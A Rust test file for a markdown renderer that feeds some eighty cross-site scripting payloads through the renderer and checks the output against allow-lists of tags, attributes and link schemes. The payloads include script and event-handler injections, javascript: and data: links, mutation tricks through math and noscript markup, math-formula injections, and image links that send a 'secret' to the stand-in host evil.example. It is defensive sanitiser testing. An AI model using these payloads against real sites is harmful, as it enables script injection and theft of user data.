//! Nothing that runs, loads or styles comes out, whatever goes in. The output is read the way a browser does.
#![allow(clippy::unwrap_used)]

use markup::render;

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "a <img src=x onerror=alert(1)> b",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>y</a></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(https://evil.example)\">x</p>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<form action=https://evil.example><input name=a><button>x</button></form>",
    "<object data=x></object><embed src=x><base href=https://evil.example>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](https://ok.example \"onmouseover=alert(1)\")",
    "[x](https://ok.example/\"onmouseover=\"alert(1))",
    "[x](<https://ok.example/\"><script>alert(1)</script>>)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n[x]: javascript:alert(1)\n",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://evil.example)",
    "![<img src=x onerror=alert(1)>](https://evil.example)",
    "![](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://ok.example/\"onclick=alert(1)//>",
    "<x@example.org\"onclick=alert(1)>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "~~~x\" onclick=\"alert(1)\ny\n~~~",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)> {#id .class onclick=alert(1)}",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "| \" onmouseover=\"alert(1) |\n|---|\n| x |",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$\\class{x\" onclick=\"alert(1)}{y}$",
    "$\\style{background:url(https://evil.example)}{y}$",
    "$\\htmlData{onclick=alert(1)}{y}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\color{red}{x} \\colorbox{blue}{y} \\hspace{-3em} z$",
    "$\\begin{array}{c}\\text{<style>}\\end{array}$",
    "$\\unicode{x3c}script>alert(1)</script>$",
    "$$</math><script>alert(1)</script>$$",
    "\\[ </math><img src=x onerror=alert(1)> \\]",
    "\\( <svg onload=alert(1)> \\)",
    "$<script>alert(1)</script>",
    "- <script>\n- alert(1)\n- </script>",
    "> <script>\n> alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<scr\0ipt>alert(1)</script>",
    "<a\nhref='javascript:alert(1)'>x",
    "\\<script>alert(1)\\</script>",
    "<img src='x'\u{a0}onerror=alert(1)>",
    "<div id=\"composer\" class=\"dialog\" name=body>",
    "[x](https://ok.example){onclick=alert(1)}",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
];

const TAGS: &[&str] = &[
    "p",
    "br",
    "hr",
    "h3",
    "h4",
    "h5",
    "h6",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "blockquote",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
    "span",
    "math",
    "semantics",
    "mrow",
    "mi",
    "mo",
    "mn",
    "mtext",
    "mspace",
    "mfrac",
    "msqrt",
    "mtable",
    "mtr",
    "mtd",
    "mpadded",
    "msub",
    "msup",
];

const ATTRIBUTES: &[&str] = &[
    "href",
    "rel",
    "target",
    "class",
    "tabindex",
    "role",
    "aria-label",
    "start",
    "display",
    "displaystyle",
    "scriptlevel",
    "mathvariant",
    "stretchy",
    "symmetric",
    "fence",
    "form",
    "largeop",
    "movablelimits",
    "width",
    "height",
];

/// Reads tags as HTML's tokeniser does: names up to white space or `>`, values quoted. Our output has no other form.
fn check(html: &str, attack: &str) {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let tag = rest.strip_prefix('/').unwrap_or(rest);
        let end = tag.find(|char: char| char.is_whitespace() || char == '>').unwrap();
        assert!(TAGS.contains(&&tag[..end]), "<{}> from {attack:?}: {html}", &tag[..end]);
        let mut attributes = tag[end..].trim_start();
        while !attributes.starts_with('>') {
            let (name, value) = attributes.split_once("=\"").unwrap();
            assert!(ATTRIBUTES.contains(&name), "{name} from {attack:?}: {html}");
            let (value, after) = value.split_once('"').unwrap();
            if name == "href" {
                let is_allowed = ["https://", "http://", "mailto:"].iter().any(|scheme| value.starts_with(scheme));
                assert!(is_allowed, "{value} from {attack:?}: {html}");
            }
            attributes = after.trim_start();
        }
        rest = attributes;
    }
}

#[test]
fn nothing_that_runs_or_loads() {
    for attack in ATTACKS {
        for wrapped in [
            attack.to_string(),
            format!("before {attack} after"),
            format!("- {attack}"),
            format!("> {attack}\n\nafter"),
            format!("**{attack}**"),
            format!("text\n{attack}\n\n{attack}"),
        ] {
            for html in render(&wrapped) {
                check(&html, &wrapped);
            }
        }
    }
}

#[test]
fn attacks_stay_readable() {
    assert_eq!(render("<script>alert(1)</script>").concat(), "<p>&lt;script&gt;alert(1)&lt;/script&gt;<br></p>");
}

#[test]
fn halves_of_attacks_do_not_join_across_blocks() {
    // The page sets blocks one by one; each must be whole in itself.
    for attack in ATTACKS {
        let mut stream = markup::Stream::new();
        for char in attack.chars() {
            stream.push(char.encode_utf8(&mut [0; 4]));
            for html in stream.blocks() {
                check(html, attack);
            }
        }
    }
}
